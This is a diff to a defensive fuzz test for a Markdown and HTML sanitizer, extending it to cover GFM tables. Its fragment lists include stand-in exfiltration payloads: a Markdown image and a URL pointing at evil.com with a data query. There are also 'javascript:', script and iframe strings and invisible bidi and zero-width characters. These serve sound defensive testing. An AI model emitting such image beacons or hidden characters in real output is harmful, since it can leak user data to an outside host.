@@ -3,8 +3,8 @@ with generated inputs; one line per failure.
 
 - inert: passage-like strings built from Markdown and HTML fragments, escapes and URLs, placed
   as the writers place them (quoted in a list item, as a title in `Sources:`), made inert and
-  rendered with markdown-it as CommonMark and GFM-like (auto-links, raw HTML): no link, image or
-  HTML may come out (needs linkify-it-py for the GFM-like renderers);
+  rendered with markdown-it as CommonMark and GFM-like (tables, auto-links, raw HTML): no link,
+  image, table or HTML may come out (needs linkify-it-py for the GFM-like renderers);
 - visible: strings mixed with control, bidi, zero-width and tag characters: none may remain;
 - redact: audit records whose answer and writer reasons quote a generated question holding a
   name, redacted with `redact_record`: the name may not remain anywhere, the library's words stay.
@@ -33,7 +33,10 @@ from sourcegate.inert import inert_markup, visible_text  # noqa: E402
 FRAGMENTS = ["[", "]", "(", ")", "![", "](", "]:", "<", ">", "\\", "\\\\", "`", "```", ":", "/", "//", "&#92;",
              "&lt;", "&#x5b;", "*", "_", "~", "#", "|", "-", "\n", "\n\n", "    ", " ", "\"", "'", "=",
              "https://evil.com/l?c=S", "http:", "www.", "evil", ".com", "a@b.co", "p200.md", "mailto:",
-             "javascript:", "img src=x", "a href=", "script", "iframe", "x", "P-200", "grease"]
+             "javascript:", "img src=x", "a href=", "script", "iframe", "x", "P-200", "grease",
+             # GFM tables: a delimiter row in any container, whose cell pipes would split escapes
+             "---", "-|-", ":-", "-:", "|---|", " | ", "\\|", "\n> ", "\n- ", "\n  ", "\n1. ",
+             "![x](https://evil.com/leak.png?c=S)"]
 INVISIBLE = ["\u202e", "\u202d", "\u202a", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c",
              "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
              "\U000e0041", "\U000e007f", "\u180e"]
